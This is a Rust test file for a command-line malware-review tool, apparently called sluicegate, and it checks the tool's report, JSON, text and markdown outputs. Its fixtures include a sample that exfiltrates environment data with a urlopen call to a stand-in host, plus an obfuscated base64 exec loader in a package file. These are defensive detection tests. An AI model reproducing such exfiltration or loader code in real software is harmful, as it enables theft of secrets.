//! The forms of the output: one for each reader, none with anything but the result in it.

use serde_json::Value;

use crate::place::{PLAIN, Place, THIEF, ran};

const FIELDS: [&str; 12] = [
    "purpose",
    "sources",
    "sinks",
    "flows",
    "anomalies",
    "analysis",
    "conclusion",
    "confidence",
    "obfuscated",
    "malware",
    "securityRisk",
    "report_number",
];

#[test]
fn report_is_the_object_of_twelve_fields_and_nothing_else() {
    let ran = Place::with_both().run(&["review", "plain.py", "--format", "report"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""));
    let report = ran.json();
    assert_eq!(report.as_object().unwrap().len(), FIELDS.len());
    let places: Vec<usize> = FIELDS.iter().map(|field| ran.stdout.find(&format!("\"{field}\":")).unwrap()).collect();
    assert!(places.is_sorted(), "{}", ran.stdout);
    for field in &FIELDS[..7] {
        assert!(!report[field].as_str().unwrap().is_empty(), "{field} is empty");
    }
    for field in &FIELDS[7..11] {
        assert!((0.0..=1.0).contains(&report[field].as_f64().unwrap()), "{field}");
    }
    assert!(report["report_number"].as_u64().unwrap() >= 1);
}

#[test]
fn json_is_an_object_for_one_target_and_an_array_for_several() {
    let place = Place::with_both();
    assert!(place.run(&["review", "plain.py", "--format", "json"]).json().is_object());
    let both = place.run(&["review", "plain.py", "thief.py", "--format", "json"]).json();
    let targets: Vec<&str> = both.as_array().unwrap().iter().map(|review| review["target"].as_str().unwrap()).collect();
    assert_eq!(targets, ["plain.py", "thief.py"]);
}

#[test]
fn jsonl_has_a_line_for_each_target_in_the_order_given() {
    let place = Place::with_both().file("folder/a.py", PLAIN).file("folder/b.py", PLAIN);
    let mut command = place.command();
    command.args(["review", "thief.py", "folder", "-", "plain.py", "--format", "jsonl", "--jobs", "3"]);
    let ran = ran(command.write_stdin("A = 1\n"));
    let targets: Vec<Value> = ran.lines().iter().map(|review| review["target"].clone()).collect();
    assert_eq!(targets, ["thief.py", "folder", "-", "plain.py"]);
    assert_eq!(ran.lines()[1]["files"].as_array().unwrap().len(), 2, "a folder has a review of each of its files");
}

#[test]
fn every_review_follows_the_schema() {
    let schema: Value = serde_json::from_str(sluicegate::render::SCHEMA).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let place = Place::with_both()
        .file("folder/setup.py", format!("{THIEF}\nfrom setuptools import setup\n\nsetup(name=\"demo\")\n"))
        .file("folder/demo/__init__.py", "import base64\nexec(base64.b64decode(\"cHJpbnQoMSk=\"))\n")
        .file("folder/demo/tool.sh", "#!/bin/sh\necho hello\n");
    for review in place.run(&["review", "plain.py", "thief.py", "folder", "--format", "jsonl"]).lines() {
        let errors: Vec<String> =
            validator.iter_errors(&review).map(|error| format!("{}: {error}", error.instance_path())).collect();
        assert!(errors.is_empty(), "{errors:#?}");
    }
}

#[test]
fn text_and_markdown_name_the_target_and_its_verdict() {
    let place = Place::with_both();
    let text = place.run(&["review", "plain.py"]).stdout;
    assert!(text.starts_with("plain.py: benign (malware 0"), "{text}");
    assert!(text.contains("\nPurpose\n  ") && text.contains("\nConclusion\n  "), "{text}");
    assert!(text.lines().all(|line| line.chars().count() <= 100), "{text}");
    let markdown = place.run(&["review", "plain.py", "--format", "markdown"]).stdout;
    assert!(markdown.starts_with("# plain.py&#58; benign") || markdown.starts_with("# plain.py: benign"), "{markdown}");
    assert!(markdown.contains("\n## Purpose\n"), "{markdown}");
}

#[test]
fn a_finding_is_shown_with_its_code() {
    let text = Place::with_both().run(&["review", "thief.py"]).stdout;
    assert!(text.contains("thief.py: malicious"), "{text}");
    assert!(text.contains("urllib.request.urlopen(\"https://collect.example.invalid/e\", data=data)"), "{text}");
    assert!(text.contains("exfiltration/environment"), "{text}");
}

#[test]
fn color_is_for_terminals_unless_asked_for() {
    let place = Place::with_both();
    let colored = |args: &[&str]| place.run(args).stdout.contains('\u{1b}');
    assert!(!colored(&["review", "plain.py"]), "a pipe is no terminal");
    assert!(colored(&["review", "plain.py", "--color", "always"]));
    assert!(!colored(&["review", "plain.py", "--color", "never"]));
    assert!(!colored(&["review", "plain.py", "--color", "always", "--format", "json"]), "data is never colored");
}

#[test]
fn no_progress_is_shown_where_nobody_looks() {
    let ran = Place::with_both().run(&["review", "plain.py"]);
    assert_eq!(ran.stderr, "");
}

#[test]
fn an_output_file_appears_whole_or_not_at_all() {
    let place = Place::with_both().file("kept.json", "before");
    let ran = place.run(&["review", "plain.py", "--format", "json", "--output", "out.json"]);
    assert_eq!((ran.code, ran.stdout.as_str()), (0, ""));
    let direct = place.run(&["review", "plain.py", "--format", "json"]).stdout;
    assert_eq!(std::fs::read_to_string(place.path("out.json")).unwrap(), direct);

    let ran = place.run(&["review", "missing.py", "--format", "json", "--output", "kept.json"]);
    assert_eq!(ran.code, 2);
    assert_eq!(std::fs::read_to_string(place.path("kept.json")).unwrap(), "before");

    let ran = place.run(&["review", "plain.py", "--output", "no/such/folder/out.txt"]);
    assert_eq!((ran.code, ran.stdout.as_str()), (2, ""));
    assert!(ran.stderr.contains("cannot be written"), "{}", ran.stderr);

    let names: Vec<String> = std::fs::read_dir(place.path("."))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.starts_with(".sluice"))
        .collect();
    assert_eq!(names, Vec::<String>::new(), "nothing half-written stays");
}

#[test]
#[cfg(unix)]
fn a_device_is_written_to_and_not_replaced() {
    let place = Place::with_both();
    let ran = place.run(&["review", "plain.py", "--output", "/dev/null"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""));
    use std::os::unix::fs::FileTypeExt;
    assert!(std::fs::metadata("/dev/null").unwrap().file_type().is_char_device());
}

#[test]
fn what_code_does_with_files_and_its_lines_are_told_as_they_are() {
    let place = Place::new()
        .file("reads/one.py", "import sys\n\nprint(open(sys.argv[1]).read())\n")
        .file("writes/one.py", "import sys\n\nopen(sys.argv[1], 'w').write('1')");
    let purpose = |target: &str| {
        let review = place.run(&["review", target, "--format", "json"]).json();
        review["report"]["purpose"].as_str().unwrap().to_owned()
    };
    let (reads, writes) = (purpose("reads"), purpose("writes"));
    assert!(reads.contains("1 file of source code with 3 lines; its code works with paths from outside."), "{reads}");
    assert!(writes.contains("1 file of source code with 3 lines; its code writes files."), "{writes}");
}

#[test]
fn the_same_bytes_on_one_worker_and_on_many() {
    let mut place = Place::with_both();
    for number in 0..12 {
        place = place.file(&format!("set/module_{number}.py"), format!("{PLAIN}\n\nNUMBER = {number}\n{THIEF}"));
        place = place.file(&format!("more/part_{number}.py"), format!("VALUE = {number}\n"));
    }
    let targets = ["thief.py", "set", "plain.py", "more", "set/module_1.py", "set/module_2.py", "more/part_3.py"];
    for format in ["jsonl", "json", "text", "markdown"] {
        let run = |jobs: &str| {
            let mut args = vec!["review", "--format", format, "--jobs", jobs];
            args.extend(targets);
            place.run(&args)
        };
        let (one, many) = (run("1"), run("5"));
        assert_eq!(one.code, many.code);
        assert!(one.stdout == many.stdout, "{format} differs");
        assert!(!one.stdout.is_empty());
    }
}
